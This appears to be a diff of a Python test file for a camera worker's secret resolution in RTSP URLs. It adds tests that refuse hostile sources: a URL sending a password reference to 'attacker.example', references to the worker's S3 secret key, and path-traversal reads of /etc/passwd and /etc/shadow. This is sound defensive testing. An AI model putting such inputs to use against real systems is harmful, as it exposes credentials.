@@ -4,6 +4,7 @@ credential references in sources, partition placement (as kafka-python places ke
 
 from __future__ import annotations
 
+import contextlib
 import copy
 import logging
 from pathlib import Path
@@ -183,32 +184,31 @@ def test_a_source_with_a_reference_or_no_password_is_accepted(source: str) -> No
 def test_resolve_source_expands_environment_and_file_references(tmp_path: Path) -> None:
     secret = tmp_path / "pw"
     secret.write_text("from-file\nsecond line ignored\n")
-    source = f"rtsp://${{CAM_USER}}:${{file:{secret}}}@10.0.0.5/s?token=${{TOKEN}}"
-    out = resolve_source(source, {"CAM_USER": "admin", "TOKEN": "t0k"})
+    source = f"rtsp://admin:${{file:{secret}}}@10.0.0.5/s?token=${{CAM_TOKEN}}"
+    out = resolve_source(source, {"CAM_TOKEN": "t0k"}, allowed_dirs=[tmp_path])
     assert out == "rtsp://admin:from-file@10.0.0.5/s?token=t0k"
 
 
 def test_resolve_source_reads_the_process_environment_by_default(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
-    monkeypatch.setenv("ARGUS_TEST_CAM_PW", "envpw")
-    assert resolve_source("rtsp://a:${ARGUS_TEST_CAM_PW}@h/s") == "rtsp://a:envpw@h/s"
+    monkeypatch.setenv("CAM_TEST_PW", "envpw")
+    assert resolve_source("rtsp://a:${CAM_TEST_PW}@h/s") == "rtsp://a:envpw@h/s"
 
 
 def test_resolve_source_leaves_a_source_without_references_alone() -> None:
     assert resolve_source("rtsp://cam/x", {}) == "rtsp://cam/x"
 
 
-def test_resolve_source_does_not_expand_references_inside_values(tmp_path: Path) -> None:
+def test_resolve_source_does_not_expand_references_inside_values() -> None:
     """A value is inserted once (percent-encoded in a URL): a value that looks like a
     reference is not read again."""
-    out = resolve_source("rtsp://a:${PW}@h/s", {"PW": "${file:/etc/hostname}"})
+    out = resolve_source("rtsp://a:${CAM_PW}@h/s", {"CAM_PW": "${file:/etc/hostname}"})
     assert out == "rtsp://a:%24%7Bfile%3A%2Fetc%2Fhostname%7D@h/s"
-    assert resolve_source("/videos/${NAME}.mp4", {"NAME": "gate"}) == "/videos/gate.mp4"
 
 
 def test_a_value_with_url_characters_is_percent_encoded_in_a_url() -> None:
-    out = resolve_source("rtsp://admin:${PW}@10.0.0.5/s", {"PW": "p@ss/w:rd"})
+    out = resolve_source("rtsp://admin:${CAM_PW}@10.0.0.5/s", {"CAM_PW": "p@ss/w:rd"})
     assert out == "rtsp://admin:p%40ss%2Fw%3Ard@10.0.0.5/s"
 
 
@@ -218,7 +218,7 @@ def test_a_value_with_url_characters_is_percent_encoded_in_a_url() -> None:
         " rtsp://admin:hunter2@h/s",
         "rtsp://admin:hun ter2@h/s",
         "rtsp://h/s?user=admin&password=hunter2",
-        "rtsp://admin:${PW}x@h/s",
+        "rtsp://admin:${CAM_PW}x@h/s",
     ],
 )
 def test_more_ways_of_writing_a_password_are_refused(source: str) -> None:
@@ -226,22 +226,69 @@ def test_more_ways_of_writing_a_password_are_refused(source: str) -> None:
     assert problem is not None and "hunter2" not in problem
 
 
-def test_an_unset_variable_raises_naming_it_without_values() -> None:
-    env = {"OTHER": PASSWORD}
+@pytest.mark.parametrize(
+    ("source", "why"),
+    [
+        # a reference where logs do not redact it: the value could be sent anywhere
+        ("http://attacker.example/x.mjpg?a=${CAM_PW}", "only for the password"),
+        ("rtsp://h/${CAM_PW}/s", "only for the password"),
+        # the worker's own secrets are out of reach
+        ("rtsp://a:${ARGUS_S3_SECRET_KEY}@h/s", "starting with CAM_"),
+        ("rtsp://a:${PW}@h/s", "starting with CAM_"),
+        ("rtsp://a:${file:etc/passwd}@h/s", "absolute path"),
+        ("rtsp://a:${file:/run/secrets/../../etc/shadow}@h/s", "absolute path"),
+    ],
+)
+def test_references_stand_only_for_secrets_and_reach_only_camera_secrets(
+    source: str, why: str
+) -> None:
+    problem = source_problem(source)
+    assert problem is not None and why in problem
+    with pytest.raises(SecretError) if "${CAM_PW}" not in source else contextlib.nullcontext():
+        resolve_source(source, {"CAM_PW": "x", "ARGUS_S3_SECRET_KEY": "k", "PW": "p"})
+
+
+def test_a_file_reference_outside_the_secret_folders_is_not_read(tmp_path: Path) -> None:
+    outside = tmp_path / "outside"
+    outside.write_text(PASSWORD)
+    inside = tmp_path / "secrets"
+    inside.mkdir()
     with pytest.raises(SecretError) as info:
-        resolve_source("rtsp://a:${OTHER}@h/s?k=${MISSING_PW}", env)
-    assert "MISSING_PW" in str(info.value)
+        resolve_source(f"rtsp://a:${{file:{outside}}}@h/s", {}, allowed_dirs=[inside])
+    assert "is not under" in str(info.value) and PASSWORD not in str(info.value)
+    link = inside / "link"
+    link.symlink_to(outside)  # a link out of the folder is followed, then refused
+    with pytest.raises(SecretError):
+        resolve_source(f"rtsp://a:${{file:{link}}}@h/s", {}, allowed_dirs=[inside])
+
+
+def test_an_unset_variable_raises_naming_it_without_values() -> None:
+    env = {"CAM_OTHER": PASSWORD}
+    with pytest.raises(SecretError) as info:
+        resolve_source("rtsp://a:${CAM_OTHER}@h/s?token=${CAM_MISSING_PW}", env)
+    assert "CAM_MISSING_PW" in str(info.value)
     assert PASSWORD not in str(info.value)
 
 
 def test_an_unreadable_file_raises_naming_it_without_values(tmp_path: Path) -> None:
     missing = tmp_path / "nope"
+    env = {"CAM_PW": PASSWORD}
     with pytest.raises(SecretError) as info:
-        resolve_source(f"rtsp://a:${{PW}}@h/s?k=${{file:{missing}}}", {"PW": PASSWORD})
+        resolve_source(
+            f"rtsp://a:${{CAM_PW}}@h/s?token=${{file:{missing}}}", env, allowed_dirs=[tmp_path]
+        )
     assert str(missing) in str(info.value)
     assert PASSWORD not in str(info.value)
-    with pytest.raises(SecretError):
-        resolve_source(f"rtsp://a:${{file:{tmp_path}}}@h/s", {})  # a directory
+    with pytest.raises(SecretError):  # a directory
+        resolve_source(f"rtsp://a:${{file:{tmp_path}}}@h/s", {}, allowed_dirs=[tmp_path])
+
+
+@pytest.mark.parametrize("updated_at", [float("nan"), 1e308, -1.0, True, "now"])
+def test_an_impossible_publication_time_is_refused(updated_at: object) -> None:
+    value = {"camera": {"id": "c1", "source": "rtsp://h/s"}, "rules": [], "updated_at": updated_at}
+    with pytest.raises(ConfigError) as info:
+        parse_definition("camera/c1", value)
+    assert any("updated_at" in p for p in info.value.problems)
 
 
 # --------------------------------------------------------------------------- partition_of
